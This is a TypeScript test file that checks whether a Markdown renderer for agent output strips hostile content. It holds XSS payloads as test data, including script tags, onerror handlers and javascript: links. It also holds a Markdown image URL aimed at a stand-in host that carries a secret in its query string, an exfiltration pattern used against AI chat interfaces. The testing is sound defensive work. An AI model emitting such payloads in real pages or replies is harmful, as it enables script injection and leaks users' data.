// Goal: an agent's Markdown can show, but not do. Method: hostile texts rendered to HTML, as a browser would get it.
import { renderToStaticMarkup } from 'react-dom/server'
import { expect, test } from 'vitest'
import { MarkdownRendered } from './markdown-rendered.tsx'

const html = (text: string) => renderToStaticMarkup(<MarkdownRendered text={text} />)

test('tables, lists, code and links are shown; links lead out without a way back', () => {
  const page = html('| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n\n[more](https://example.com)')
  expect(page).toContain('<td>1</td>')
  expect(page).toContain('rel="noopener noreferrer nofollow"')
})

test('scripts, handlers, frames and styles do not get through', () => {
  const page = html(
    '<script>alert(1)</script><img src=x onerror=alert(1)><iframe src="https://evil"></iframe><style>*{}</style>\n\n<a href="javascript:alert(1)">x</a>',
  )
  for (const bad of ['<script', '<iframe', '<style', '<img', 'onerror=', 'href="javascript']) expect(page).not.toContain(bad)
})

test('links only go where a browser can go safely', () => {
  for (const address of ['javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'data:text/html,x', 'vbscript:x', 'file:///etc/passwd'])
    expect(html(`[x](${address})`)).not.toContain('href=')
  expect(html('[x](mailto:a@b.c)')).toContain('href="mailto:a@b.c"')
})

test('no image is fetched from elsewhere', () => {
  const page = html('![a secret](https://evil.example/?q=secret) ![inline](data:text/html,x)')
  expect(page).not.toContain('<img')
  expect(page).toContain('Image not loaded: a secret')
})

test('marks that reorder text and escapes are dropped, very long texts are cut and say so', () => {
  expect(html('a\u202eb\u001b[31mc')).toBe('<p>abc</p>')
  expect(html('x'.repeat(500_000))).toContain('100000 more characters')
})
